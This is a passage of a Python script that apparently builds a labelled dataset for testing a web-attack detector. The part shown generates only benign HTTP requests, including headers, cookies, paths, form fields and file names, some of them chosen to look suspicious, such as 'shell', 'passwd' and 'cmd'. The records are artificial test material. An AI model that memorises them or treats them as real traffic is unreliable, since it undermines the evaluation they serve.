    "Ruby", "libwww-perl/6.72", "Dalvik/2.1.0 (Linux; U; Android 14; SM-S918B Build/UP1A.231005.007)",
]
BENIGN_REFERERS = [
    "https://app.example.com/admin/users?q=ann&page=2",
    "https://app.example.com/settings/profile#avatar",
    "https://www.google.com/",
    "https://app.example.com/people?team=platform&sort=name",
    "https://app.example.com/docs/setup/bash-completion",
    "https://app.example.com/search?q=cat+food",
    "https://app.example.com/files?path=reports/2024/q2",
    "https://app.example.com/help/articles/upload-a-file",
    "https://github.com/acme/platform/pull/88",
    "https://app.example.com/reports?from=2024-01-01&to=2024-03-31",
]
BENIGN_COOKIES = [
    "theme=dark", "lang=en-US", "tz=Europe%2FBerlin", "_ga=GA1.2.1234567890.1719000000", "sidebar=collapsed",
    "recent=ann%2Cbo%2Cmarta", "last_search=cat%20sitter", "return_to=%2Fme%2Fsettings", "ab_test=variant_b",
    "currency=EUR", "font_size=14", "cart=%7B%22items%22%3A2%7D", "tour_done=1", "region=eu-central-1",
    "shell=fish", "editor=vim", "layout=grid", "filter=team%3Aplatform", "last_export=report-2024-06.csv",
    "prefs=compact%2Cdark",
]
BENIGN_PATHS = [
    "/api/users/42", "/api/users/1337", "/api/users/ann.lee", "/api/users/b0-chen", "/api/teams/platform/members",
    "/api/users/42/avatar", "/api/reports/2024-q2", "/api/users/42/sessions", "/api/files/report.pdf",
    "/api/users/me", "/me/settings", "/me/settings/notifications", "/me/profile", "/admin/users",
    "/admin/users/42/edit", "/admin/audit-log", "/api/projects/cat-tracker", "/api/tags/java",
    "/api/tags/powershell", "/api/tags/node.js", "/api/docs/shell-scripting", "/api/users/42/history",
    "/api/search/ping", "/api/projects/id-card-printer", "/api/exports/passwd-reset-report",
]
BENIGN_QUERY_NAMES = [
    ("sort", "name"), ("filter[team]", "platform"), ("fields[]", "email"), ("include", "team"), ("page[size]", "50"),
    ("utm_source", "newsletter"), ("lang", "de"), ("q", "cat"), ("order", "desc"), ("tz", "Europe/Paris"),
    ("user[name]", "Ann"), ("prototype_id", "7"), ("class", "premium"), ("file", "report-2024.pdf"),
    ("template", "welcome"), ("path", "reports/2024"), ("cmd", "list"), ("exec_summary", "1"),
    ("history", "30d"), ("alias", "ann"),
]
BENIGN_JSON_KEYS: list[dict[str, Any]] = [
    {"name": "Ann Lee", "email": "ann.lee@example.org", "team": "platform"},
    {"firstName": "Bo", "lastName": "Chen", "locale": "zh-CN"},
    {"display_name": "Marta", "timezone": "Europe/Madrid", "notifications": {"email": True, "slack": False}},
    {"name": "Report bot", "class": "service", "prototype": False},
    {"title": "Shell scripting 101", "tags": ["bash", "linux"], "level": "beginner"},
    {"name": "Ann", "constructor_company": "Acme Build Ltd.", "role": "site manager"},
    {"name": "Java Guild", "members": 14, "channel": "#java"},
    {"name": "Perl Jam", "genre": "rock"},
    {"path": "reports/2024/q2.pdf", "shared": True},
    {"file": "avatar.png", "size": 20480},
    {"command": "deploy", "args": ["staging"], "dry_run": True},
    {"history": [{"at": "2024-06-01", "event": "login"}]},
    {"process": "onboarding", "step": 3},
    {"template": "invoice-v2", "currency": "EUR"},
    {"url": "https://example.com/profile/ann", "label": "homepage"},
]


REDIRECT_URIS = ["https://app.example.com/callback", "https://app.example.com/auth/done?next=%2Fme",
                 "com.example.app:/oauth2redirect", "http://localhost:8080/callback",
                 "https://staging.app.example.com/cb"]
BENIGN_COOKIE_NAMES = ["_ga", "_gid", "__Host-csrf", "__Secure-session", "ajs_user_id", "intercom-id-abc123",
                       "OptanonConsent", "_hjSessionUser_1234", "AWSALB", "JSESSIONID", "PHPSESSID", "rack.session",
                       "connect.sid", "XSRF-TOKEN", "_shopify_y", "cf_clearance", "lang", "history_len", "process_step",
                       "class_group"]
BENIGN_FIELD_NAMES = ["notify[email]", "notify[slack]", "profile[bio]", "address[line1]", "address[city]",
                      "emergency_contact.name", "skills[]", "links[0][url]", "pronouns", "office",
                      "command_palette", "shell_theme", "java_version", "node_version", "history_days",
                      "alias_email", "template_id", "include_archived", "file_format", "path_prefix"]
UPLOAD_NAMES = ["IMG_2041.HEIC", "scan 2024-05-02.pdf", "budget_v3_final_FINAL.xlsx", "team photo.jpg",
                "notes (1).txt", "Präsentation.pptx", "diagram.drawio", "export.json", "cat.gif", "id-card.png",
                "shell-beach.jpg", "java-cert.pdf", "powershell-cheatsheet.pdf", "history-homework.docx",
                "ping-results.csv", "passwd-policy.pdf", "README.txt", "CHANGELOG.md", "logo@2x.png", "map.kml"]


def _benign_text_places(b: Builder, text: str, i: int) -> list[tuple[str, str, dict[str, Any]]]:
    """Two more innocent places for a chat text: rotating query, admin form, settings form, XML, multipart, raw."""
    opts = [
        ("search", "query", lambda: b.query("/api/users", "q", text)),
        ("adminsearch", "form", lambda: b.form("/admin/users/search", [("q", text), ("sort", "name")])),
        ("settings", "form", lambda: b.form("/me/settings", [*SETTINGS_FIELDS[:2], ("bio", text)])),
        ("xml", "xml", lambda: b.xml("POST", "/api/users",
                                     f"{XML_HEAD}<user><name>Ann Lee</name><bio>{_xml_escape(text)}</bio></user>")),
        ("upload", "multipart-field", lambda: b.multipart("/me/settings", [*SETTINGS_FIELDS[:2], ("bio", text)],
                                                          DEFAULT_FILE)),
        ("patch", "json", lambda: b.json("PATCH", "/api/users/42", {"bio": text})),
        ("note", "raw-body", lambda: b.raw("POST", "/api/users", text)),
        ("adminget", "query", lambda: b.query("/admin/users/search", "q", text)),
    ]
    a, c = opts[i % len(opts)], opts[(i + 3) % len(opts)]
    return [(a[0], a[1], a[2]()), (c[0], c[1], c[2]())]


def benign() -> Iterator[dict[str, Any]]:
    b = Builder(8203)
    n = yield from chat_and_bio(TEXTS, NAME)

    def rec(kind: str, placement: str, req: dict[str, Any]) -> dict[str, Any]:
        nonlocal n
        n += 1
        return _check({**req, "id": f"{NAME}-{kind}-{n:04d}", "category": "benign", "placement": placement})

    for i, text in enumerate(TEXTS):
        for kind, placement, req in _benign_text_places(b, text, i):
            yield rec(kind, placement, req)
    for i, (field, filename, ctype, content) in enumerate(UPLOADS):
        for k, path in enumerate(("/me/settings", "/api/users")):
            fields = [*SETTINGS_FIELDS[: 1 + (i + k) % 3]]
            yield rec("upload", "multipart-file", b.multipart(path, fields, (field, filename, ctype, content)))
    for url in PUBLIC_URLS:
        yield rec("url", "json", b.json("POST", "/api/users", {"name": "Ann Lee", "website": url, "avatar_url": url}))
        yield rec("url", "query", b.query("/api/users", "ref", url))
        yield rec("url", "header:Referer", b.header("/api/users", "Referer", url))
    for i, ua in enumerate(BENIGN_UAS):
        path = ["/api/users", "/me/settings", "/admin/users/search"][i % 3]
        yield rec("ua", "header:User-Agent", b.header(path, "User-Agent", ua))
        yield rec("ua", "header:User-Agent", b.header("/api/users/42", "User-Agent", ua))
    for i, ref in enumerate(BENIGN_REFERERS):
        yield rec("referer", "header:Referer", b.header(["/api/users", "/me/settings"][i % 2], "Referer", ref))
    xffs = ["203.0.113.10", "198.51.100.7, 10.0.0.4", "2001:db8::1", "192.0.2.44, 172.16.0.9, 10.1.2.3"]
    for i, xff in enumerate(xffs):
        yield rec("xff", "header:X-Forwarded-For", b.header("/api/users", "X-Forwarded-For", xff))
        yield rec("apiver", "header:X-Api-Version", b.header("/api/users", "X-Api-Version", f"2024-0{i + 1}-15"))
    for i, c in enumerate(BENIGN_COOKIES):
        yield rec("cookie", "cookie", b.get("/api/users", [("page", str(i % 5 + 1))], extra_cookie=c))
        yield rec("cookie", "cookie", b.get("/me/settings", [], extra_cookie=c, accept="text/html"))
    for i, path in enumerate(BENIGN_PATHS):
        yield rec("path", "path", b.get(path, []))
        yield rec("path", "path", b.get(path, [("page", str(i % 3 + 1))]))
    for qk, qv in BENIGN_QUERY_NAMES:
        yield rec("qname", "query-name", b.get("/api/users", [(qk, qv), ("page", "1")]))
        yield rec("qname", "query-name", b.get("/admin/users/search", [("q", "ann"), (qk, qv)]))
        yield rec("fname", "form-name", b.form("/admin/users/search", [("q", "lee"), (qk, qv)]))
    for i, doc in enumerate(BENIGN_JSON_KEYS):
        yield rec("jsonkey", "json-key", b.json("POST", "/api/users", doc))
        yield rec("jsonkey", "json-key", b.json("PATCH", "/api/users/42", doc))
        yield rec("slackkey", "json", b.slack(f"new profile saved: {doc.get('name', 'n/a')}", i))
    for url in REDIRECT_URIS:
        for _ in range(2):
            yield rec("oauth", "form", b.oauth([("redirect_uri", url), ("state", b.tok(16))]))
    for i, cname in enumerate(BENIGN_COOKIE_NAMES):
        yield rec("cookiename", "cookie-name", b.get("/api/users", [("page", str(i % 4 + 1))],
                                                     extra_cookie=f"{cname}={b.tok(12)}"))
    for fname in BENIGN_FIELD_NAMES:
        yield rec("fieldname", "multipart-name", b.multipart("/me/settings", [(fname, "yes")], DEFAULT_FILE))
    for i, upname in enumerate(UPLOAD_NAMES):
        if i % 2:
            yield rec("filename", "header:X-Filename", b.header("/api/users", "X-Filename", upname))
        else:
            yield rec("filename", "multipart-filename",
                      b.multipart("/api/users", [SETTINGS_FIELDS[0]], ("attachment", upname, "application/octet-stream",
                                                                        "placeholder\n")))
    for text in TEXTS[:40]:
        yield rec("xmlattr", "xml-attr", b.xml("PATCH", "/api/users/42",
                                               f'{XML_HEAD}<user id="42" title="{_xml_escape(text)}"/>'))


if __name__ == "__main__":
    print_records(attacks(), benign())
